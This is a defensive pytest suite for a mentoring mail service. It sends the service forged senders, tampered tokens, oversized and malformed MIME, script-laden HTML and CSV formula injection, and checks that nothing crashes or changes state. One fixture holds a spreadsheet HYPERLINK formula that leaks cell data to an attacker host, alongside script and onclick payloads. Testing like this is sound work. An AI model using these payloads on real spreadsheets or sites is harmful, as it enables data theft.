"""Hostile and broken input through the service: each has a clear outcome (quarantine, review flag,
unmatched, dropped, clear error), never a crash of the pass, never a state change it should not cause."""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlmodel import Session, select

from mailflow.adapters.tables import InboundMessage, OutboxMessage, PairEvent
from mailflow.inbox import InboxProcessor
from mailflow.queries import show_pair
from tests.support.cli import run_cli
from tests.support.dovecot import DovecotServer
from tests.support.smtp import RecordingSMTPServer
from tests.support.world import FROM, World, pair_row, roster_csv

T1 = "2026-09-02T10:00"


@pytest.fixture
async def world(tmp_path: Path, smtp_server: RecordingSMTPServer, dovecot: DovecotServer) -> World:
    w = World(f"sqlite:///{tmp_path / 'hostile.db'}", smtp_server, dovecot)
    w.import_rows([pair_row(1), pair_row(2)])
    await w.run_once("2026-09-01T09:00")
    return w


def snapshot(world: World) -> dict[str, tuple[str, int, int]]:
    """Per pair: state, number of events, number of outbox rows."""
    out = {}
    with Session(world.engine) as s:
        for ref in ("P01", "P02"):
            p = show_pair(s, ref)
            out[ref] = (p["state"], len(p["events"]), len(p["flags"]))
        out["outbox"] = (str(len(list(s.exec(select(OutboxMessage.id))))), 0, 0)
    return out


def outcomes(world: World) -> list[str]:
    with Session(world.engine) as s:
        return [m.outcome for m in s.exec(select(InboundMessage).order_by(InboundMessage.id))]  # type: ignore[arg-type]


def events(world: World, ref: str) -> list[dict]:
    with Session(world.engine) as s:
        return show_pair(s, ref)["events"]


def intro(world: World, to: str) -> EmailMessage:
    (msg,) = world.sent("introduction", to=to)
    return msg


def raw_message(headers: dict[str, str], body: bytes) -> bytes:
    head = "".join(f"{k}: {v}\r\n" for k, v in headers.items()).encode()
    return head + b"\r\n" + body


# ---- forged and replayed ---------------------------------------------------------------------


async def test_display_name_forgery_is_a_sender_mismatch(world: World) -> None:
    msg = intro(world, "mentee1@example.net")
    raw = world.reply_to(msg, "3 je veux arrêter", sender='"mentee1@example.net" <attacker@evil.example>')
    world.deliver(raw)
    before = snapshot(world)
    await world.run_once(T1)
    after = snapshot(world)
    assert after["P01"][0] == before["P01"][0] == "awaiting_first_contact"
    assert not [e for e in events(world, "P01") if e["kind"] == "reply"]
    assert ("review", "sender_mismatch") in {(f["kind"], f["reason"]) for f in _flags(world, "P01")}
    assert outcomes(world) == ["unmatched"]


def _flags(world: World, ref: str) -> list[dict]:
    with Session(world.engine) as s:
        return show_pair(s, ref)["flags"]


async def test_token_of_the_mentor_used_by_the_mentee_changes_nothing(world: World) -> None:
    msg = intro(world, "mentor1@example.org")
    world.deliver(world.reply_to(msg, "Premier rendez-vous fait !", sender="mentee1@example.net"))
    await world.run_once(T1)
    assert snapshot(world)["P01"][0] == "awaiting_first_contact"
    assert [(f["kind"], f["who"]) for f in _flags(world, "P01")] == [("review", "mentor")]  # the token's owner


async def test_tampered_token_from_a_stranger_is_unmatched(world: World) -> None:
    msg = intro(world, "mentee1@example.net")
    reply_to = str(msg["Reply-To"])
    token = re.search(r"\+([^@]+)@", reply_to).group(1)  # type: ignore[union-attr]
    tampered = reply_to.replace(token, token[:-1] + ("A" if token[-1] != "A" else "B"))
    raw = raw_message({"From": "someone@evil.example", "To": tampered, "Subject": "Re: hello",
                       "Message-ID": make_msgid(domain="evil.example")}, b"je veux arreter\r\n")  # fmt: skip
    before = snapshot(world)
    world.deliver(raw)
    await world.run_once(T1)
    assert snapshot(world) == before
    assert outcomes(world) == ["unmatched"] and len(world.folder("Unmatched")) == 1


async def test_replayed_token_of_a_closed_pair_reopens_nothing(world: World) -> None:
    from mailflow.operator import close_pair

    close_pair(world.engine, world.settings, "P01", world.now("2026-09-01T10:00"))
    await world.run_once("2026-09-01T10:01")
    before = snapshot(world)
    msg = intro(world, "mentee1@example.net")
    world.deliver(world.reply_to(msg, "Premier rendez-vous fait, on continue !"))
    await world.run_once(T1)
    after = snapshot(world)
    assert after["P01"][0] == "closed"
    assert after["outbox"] == before["outbox"]  # nothing queued to anybody


async def test_our_own_mail_looping_back_is_dropped(world: World) -> None:
    msg = intro(world, "mentee1@example.net")
    before = snapshot(world)
    world.deliver(msg.as_bytes())
    resent = EmailMessage()
    resent["From"] = FROM
    resent["To"] = FROM
    resent["Subject"] = "Copie"
    resent["Message-ID"] = make_msgid(domain="example.org")
    resent.set_content("copie d'un envoi")
    world.deliver(resent.as_bytes())
    await world.run_once(T1)
    assert snapshot(world) == before
    assert outcomes(world) == ["dropped", "dropped"]


async def test_auto_replies_are_never_answered(world: World) -> None:
    before = snapshot(world)
    for to in ("mentee1@example.net", "mentor2@example.org"):
        msg = intro(world, to)
        for _ in range(2):  # an out-of-office answers every message: ping-pong must stop at us
            world.deliver(world.reply_to(msg, "Je suis absente jusqu'au 15.", subject="Réponse automatique",
                                         headers={"Auto-Submitted": "auto-replied"}, quote=False))  # fmt: skip
    await world.run_once(T1)
    after = snapshot(world)
    assert after["outbox"] == before["outbox"]
    assert after["P01"][0] == after["P02"][0] == "awaiting_first_contact"
    kinds = [e["kind"] for e in events(world, "P01") + events(world, "P02")]
    assert kinds.count("auto_reply") == 4 and "reply" not in kinds


# ---- broken messages --------------------------------------------------------------------------


async def test_thirty_megabytes_go_to_quarantine_unparsed(world: World) -> None:
    msg = intro(world, "mentee1@example.net")
    head = world.reply_to(msg, "gros fichier", quote=False).split(b"\n\n", 1)[0].replace(b"\n", b"\r\n")
    big = head + b"\r\n\r\n" + (b"A" * 998 + b"\r\n") * (30 * 1024 * 1024 // 1000)
    assert len(big) > 30 * 1024 * 1024
    world.deliver(big)
    before = snapshot(world)
    await world.run_once(T1)
    assert snapshot(world) == before
    with Session(world.engine) as s:
        (row,) = s.exec(select(InboundMessage))
    assert (row.outcome, row.problem) == ("quarantine", "too_large")
    assert world.folder("INBOX") == []


def nested(depth: int) -> bytes:
    parts = []
    for i in range(depth):
        parts.append(f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n'.encode())
    tail = b"".join(f"\r\n--b{i}--\r\n".encode() for i in reversed(range(depth)))
    return b"".join(parts) + b"Content-Type: text/plain\r\n\r\nhello\r\n" + tail


BROKEN = {
    "200 nested multiparts": raw_message({"From": "x@evil.example", "To": FROM, "Message-ID": "<n200@evil>", "MIME-Version": "1.0"},
                                         b"") + nested(200),  # fmt: skip
    "malformed headers": b"From: <<<@@@>>>\r\nTo: ;;;,,,\r\nSubject: =?utf-8?B?!!!?=\r\nDate: yesterday\r\nMessage-ID: <<bad>>\r\n"
                         b"Content-Type: text/plain; charset\r\nX-Folded:\r\n \r\n\r\nbody\r\n",  # fmt: skip
    "header without colon": b"This is not a header\r\nFrom mentee1@example.net\r\n\r\nhello\r\n",
    "no headers at all": b"\r\n\r\n",
}


@pytest.mark.parametrize("case", list(BROKEN))
async def test_broken_message_never_stops_the_pass(world: World, case: str) -> None:
    before = snapshot(world)
    world.deliver(BROKEN[case])
    report = await world.run_once(T1)
    assert sum(report.inbox.values()) == 1
    assert snapshot(world) == before
    assert outcomes(world)[0] in ("quarantine", "unmatched")
    assert world.folder("INBOX") == []


def charset_reply(world: World, body: bytes, content_type: str) -> bytes:
    msg = intro(world, "mentee1@example.net")
    return raw_message({"From": "mentee1@example.net", "To": str(msg["Reply-To"]), "Subject": "Re: bonjour",
                        "Message-ID": make_msgid(domain="client.example.net"), "In-Reply-To": str(msg["Message-ID"]),
                        "MIME-Version": "1.0", "Content-Type": content_type, "Content-Transfer-Encoding": "8bit"}, body)  # fmt: skip


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        ("Première rencontre faite, c'était très bien.".encode(), "text/plain"),  # undeclared charset
        ("Première rencontre faite, c'était très bien.".encode(), "text/plain; charset=us-ascii"),  # wrong
        ("Première rencontre faite, c'était très bien.".encode("latin-1"), "text/plain; charset=utf-8"),  # wrong
        ("Première rencontre faite".encode(), "text/plain; charset=x-no-such-charset"),  # unknown
    ],
)
async def test_undeclared_and_wrong_charsets_are_read(world: World, body: bytes, content_type: str) -> None:
    world.deliver(charset_reply(world, body, content_type))
    await world.run_once(T1)
    assert outcomes(world) == ["processed"]
    with Session(world.engine) as s:
        (row,) = s.exec(select(InboundMessage))
    assert "rencontre faite" in row.text
    assert snapshot(world)["P01"][0] == "active"


class _Hits(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802
        _Hits.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def tracker() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hits)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    _Hits.hits = []
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


async def test_html_reply_with_script_and_tracking_image(world: World, tracker: str) -> None:
    html = (f'<html><head><script>alert("pwned")</script><style>p{{color:red}}</style></head><body>'
            f'<p>Premier rendez-vous fait, merci !</p><img src="{tracker}/pixel.gif" width=1 height=1>'
            f'<img src="cid:logo"><iframe src="{tracker}/frame"></iframe><p onclick="steal()">A bientôt</p></body></html>')  # fmt: skip
    world.deliver(charset_reply(world, html.encode(), "text/html; charset=utf-8"))
    await world.run_once(T1)
    with Session(world.engine) as s:
        (row,) = s.exec(select(InboundMessage))
    assert row.outcome == "processed" and "rendez-vous fait" in row.text
    for bad in ("alert", "<script", "pwned", "color:red", "steal", "<img", tracker):
        assert bad not in row.text
    assert _Hits.hits == []  # nothing was fetched


# ---- the roster CSV ---------------------------------------------------------------------------


def test_csv_newline_in_a_name_is_a_clear_error(world: World, tmp_path: Path) -> None:
    csv_path = tmp_path / "roster.csv"
    csv_path.write_bytes(roster_csv([pair_row(5, mentee_first_name="Ali\nce"), pair_row(6)]))
    r = run_cli("pairs", "import", str(csv_path), env=world.env)
    assert r.code == 1 and "Traceback" not in r.err
    assert re.search(r"line 2, column mentee_first_name: .*line break", r.err), r.err
    assert "nothing was imported" in r.err
    with Session(world.engine) as s:
        assert len(list(s.exec(select(PairEvent).where(PairEvent.kind == "imported")))) == 2


def test_csv_formulas_are_stored_as_text_and_neutralised_in_exports(world: World, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    csv_path = tmp_path / "roster.csv"
    csv_path.write_bytes(roster_csv([pair_row(7, mentee_first_name=formula, mentor_sector="+SUM(1,2)", mentee_sector="@cmd")]))
    r = run_cli("pairs", "import", str(csv_path), env=world.env)
    assert r.code == 0, r.err
    shown = json.loads(run_cli("pairs", "show", "P07", "--json", env=world.env).out)
    assert shown["mentee"]["first_name"] == formula  # data is kept as typed
    out = tmp_path / "export.csv"
    r = run_cli("export", "pairs", "--csv", str(out), env=world.env)
    assert r.code == 0, r.err
    text = out.read_text(encoding="utf-8-sig")
    assert "'+SUM(1,2)" in text and "'@cmd" in text
    assert not re.search(r"(^|[,;])[=+@-][A-Z]", text, re.MULTILINE)
    exported = json.loads(run_cli("people", "export", "mentee7@example.net", env=world.env).out)
    assert exported["person"]["first_name"] == formula  # JSON is not a spreadsheet: exact


# ---- fuzzing the whole processor --------------------------------------------------------------


@pytest.fixture
def processor(tmp_path: Path, smtp_server: RecordingSMTPServer) -> tuple[World, InboxProcessor]:
    w = World(f"sqlite:///{tmp_path / 'fuzz.db'}", smtp_server, None)
    w.import_rows([pair_row(1)])
    return w, InboxProcessor(w.engine, w.settings)


SEED = (b"From: mentee1@example.net\r\nTo: mentorat+abc@example.org\r\nSubject: Re: x\r\n"
        b"Message-ID: <seed@x>\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        b"stop =C3=A9 merci\r\n--b--\r\n")  # fmt: skip


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    data = bytearray(SEED)
    for _ in range(draw(st.integers(0, 8))):
        pos = draw(st.integers(0, len(data)))
        op = draw(st.sampled_from(["insert", "delete", "flip"]))
        chunk = draw(st.binary(min_size=1, max_size=12))
        if op == "insert":
            data[pos:pos] = chunk
        elif op == "delete":
            del data[pos : pos + len(chunk)]
        elif pos < len(data):
            data[pos] ^= chunk[0]
    return bytes(data)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(raw=st.one_of(st.binary(max_size=3000), mutated()))
def test_fuzz_process_never_raises(processor: tuple[World, InboxProcessor], raw: bytes) -> None:
    world, proc = processor
    with Session(world.engine) as s:
        state = show_pair(s, "P01")["state"]
    outcome = proc.process(raw, datetime(2026, 9, 2, 8, tzinfo=UTC))
    assert outcome.label in {"processed", "unmatched", "quarantine", "dropped", "duplicate"}
    with Session(world.engine) as s:
        assert show_pair(s, "P01")["state"] in (state, "active") or outcome.label == "processed"
